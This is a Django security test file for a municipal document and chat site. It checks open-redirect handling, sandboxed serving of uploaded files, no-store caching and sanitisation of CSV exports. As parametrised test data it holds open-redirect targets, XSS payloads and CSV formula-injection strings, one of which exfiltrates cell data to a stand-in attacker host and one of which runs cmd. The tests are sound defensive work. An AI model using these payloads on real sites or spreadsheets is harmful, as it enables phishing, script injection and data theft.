"""Open redirects, the public document files, the answer stream's caching, the CSV export.

Attacker's view: a `next=` or Referer pointing off-site must never be followed; a document
file is public only once READY and is never served as a page of this site; the spend CSV
must not carry spreadsheet formulas written into provider or model names.
"""

import csv
import io
import json

import pytest
from django.core.files.base import ContentFile

from knowledge.extract import NO_SCRIPTS_MARK
from knowledge.models import Document
from tests.security.conftest import fast_client
from tests.support.personas import PASSWORD

pytestmark = [
    pytest.mark.security,
    pytest.mark.django_db,
    pytest.mark.filterwarnings("ignore:StreamingHttpResponse must consume"),
]
OFFSITE = [
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "https:evil.example",
    "javascript:alert(1)",
    "http://testserver@evil.example/",
]


def stays_here(location: str) -> bool:
    return (
        location.startswith("/")
        and not location.startswith(("//", "/\\"))
        and ("evil" not in location)
    )


@pytest.mark.parametrize("target", OFFSITE)
def test_it_never_follows_an_offsite_next_after_staff_sign_in(target, adele):
    client = fast_client()
    # The admin's login page hands its `next` on to the staff sign-in, on this site...
    via_admin = client.get("/admin/login/", {"next": target})
    assert via_admin.status_code == 302 and via_admin["Location"].startswith("/staff/login/?")
    # ...which never follows it off the site.
    response = client.post(
        "/staff/login/", {"username": "adele", "password": PASSWORD, "next": target}
    )
    assert response.status_code == 302 and response["Location"] == "/staff/"


def test_it_follows_a_next_on_this_site_after_staff_sign_in(marius):
    response = fast_client().post(
        "/staff/login/", {"username": "marius", "password": PASSWORD, "next": "/comms/"}
    )
    assert response["Location"] == "/comms/"


@pytest.mark.parametrize("target", OFFSITE)
def test_it_never_follows_an_offsite_next_or_referer_when_changing_language(target):
    client = fast_client()
    by_next = client.post("/i18n/setlang/", {"language": "en", "next": target})
    by_referer = client.post("/i18n/setlang/", {"language": "en"}, HTTP_REFERER=target)
    by_get = client.get("/i18n/setlang/", {"next": target})
    for response in (by_next, by_referer, by_get):
        assert response.status_code == 302 and stays_here(response["Location"]), response


@pytest.mark.parametrize("target", OFFSITE)
def test_it_never_follows_an_offsite_next_at_staff_sign_out(target, client_for):
    response = client_for("marius").post("/staff/logout/", {"next": target})
    assert response.status_code == 302 and stays_here(response["Location"])


def stored(name: str, data: bytes, status=Document.Status.READY, **fields) -> Document:
    doc = Document(title=name, status=status, original_name=name, **fields)
    doc.file.save(name, ContentFile(data), save=True)
    return doc


@pytest.mark.parametrize(
    "status", ["pending", "processing", "failed", "retired", "expired"], ids=str
)
def test_it_serves_a_document_file_to_the_public_only_once_ready(status, client_for):
    fields = {"valid_until": "2000-01-01"} if status == "expired" else {}
    doc = stored(
        "note.txt",
        b"Brouillon du conseil",
        status="ready" if status == "expired" else status,
        **fields,
    )
    for persona in ("anonymous", "resident", "corinne"):
        assert client_for(persona).get(f"/documents/{doc.pk}/file").status_code == 404, persona
    assert client_for("marius").get(f"/documents/{doc.pk}/file").status_code == 200


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("page.html", b"<script>alert(1)</script>"),
        ("page.htm", b"<script>alert(1)</script>"),
        ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("page.xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>'),
        ("tool.js", b"alert(1)"),
        ("guide.docx", b"PK\x03\x04"),
        ("setup.exe", b"MZ\x90\x00"),
        ("no-suffix", b"<script>alert(1)</script>"),
    ],
)
def test_it_serves_anything_but_pdf_and_text_as_a_sandboxed_download(name, data):
    doc = stored(name, data)
    response = fast_client().get(f"/documents/{doc.pk}/file")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox;")


@pytest.mark.parametrize(
    ("name", "kind"),
    [("a.txt", "text/plain"), ("b.md", "text/plain"), ("c.PDF", "application/pdf")],
)
def test_it_opens_only_pdf_and_text_in_the_browser_without_scripts(name, kind):
    # A PDF opens in the browser only once ingestion rewrote it without scripts (marked).
    doc = stored(name, b"%PDF-1.4 <script>alert(1)</script>\n" + NO_SCRIPTS_MARK)
    response = fast_client().get(f"/documents/{doc.pk}/file")
    assert response["Content-Type"].startswith(kind)
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = response["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "script-src" not in policy


def test_it_serves_a_pdf_not_rewritten_without_scripts_only_as_a_download():
    doc = stored("ancien.pdf", b"%PDF-1.4 published before its scripts were stripped")
    response = fast_client().get(f"/documents/{doc.pk}/file")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")


def test_it_keeps_answers_out_of_every_cache(client_for):
    body = json.dumps({"message": "Quand ouvre la piscine ?", "history": []})
    response = client_for("resident").post("/chat/ask", body, content_type="application/json")
    b"".join(response)
    assert "no-store" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.fixture
def formula_provider(fake_llm):
    fake_llm.config.name = '=HYPERLINK("https://evil.example/?"&A1;"Détails")'
    fake_llm.config.model = "@SUM(1+1)*cmd|' /C calc'!A0"
    fake_llm.config.save()
    return fake_llm


def test_it_exports_names_that_a_spreadsheet_cannot_run(formula_provider, client_for):
    body = json.dumps({"message": "Quand ouvre la piscine ?", "history": []})
    b"".join(client_for("resident").post("/chat/ask", body, content_type="application/json"))
    export = client_for("adele").get("/spend/export.csv")
    # As French Excel reads it: UTF-8 with a BOM, ";" between cells.
    text = export.content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert rows, "the question was not recorded"
    cells = [row[column] for row in rows for column in row]
    assert any("HYPERLINK" in c for c in cells) and any("SUM(1+1)" in c for c in cells)
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_it_keeps_a_typed_code_out_of_every_cache(client_for, resident):
    """The desk's lookup page shows back the code typed from a slip; slips: see
    tests/test_accesscodes_desk.py (issue, reissue) and tests/test_accesscodes_signin.py."""
    typed = resident.plain[:-1] + ("X" if resident.plain[-1] != "X" else "Y")
    response = client_for("corinne").post("/desk/lookup", {"code": typed})
    assert response.status_code == 400
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
